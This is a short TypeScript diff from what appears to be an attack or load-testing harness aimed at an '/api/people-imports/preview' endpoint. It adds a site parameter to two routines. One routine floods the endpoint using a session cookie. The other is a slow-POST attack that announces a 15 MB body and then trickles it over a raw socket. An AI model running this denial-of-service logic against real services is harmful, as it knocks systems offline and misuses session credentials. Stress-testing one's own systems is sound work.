@@ -149,11 +149,11 @@ function eachMinute(work: () => void): () => void {
   return () => clearInterval(timer);
 }
 
-const imports: Begin = ({ web, contact, files }) => {
+const imports: Begin = ({ web, contact, siteId, files }) => {
   const counts: AttackCounts = { sent: 0 };
   const send = (body: Buffer) => {
     more(counts, 'sent');
-    const path = '/api/people-imports/preview';
+    const path = `/api/people-imports/preview?site=${siteId}`;
     void web
       .call({ path, cookie: contact, body, timeoutMs: minuteMs })
       .then((told) => heard(counts, told));
@@ -217,7 +217,7 @@ const slow: Begin = (loot) => {
     (socket) => {
       const type = 'Content-Type: application/octet-stream';
       const cookie = `Cookie: ${loot.contact}`;
-      const path = 'POST /api/people-imports/preview';
+      const path = `POST /api/people-imports/preview?site=${loot.siteId}`;
       socket.write(head(host, path, cookie, type, 'Content-Length: 15000000'));
       dribble(socket);
     },
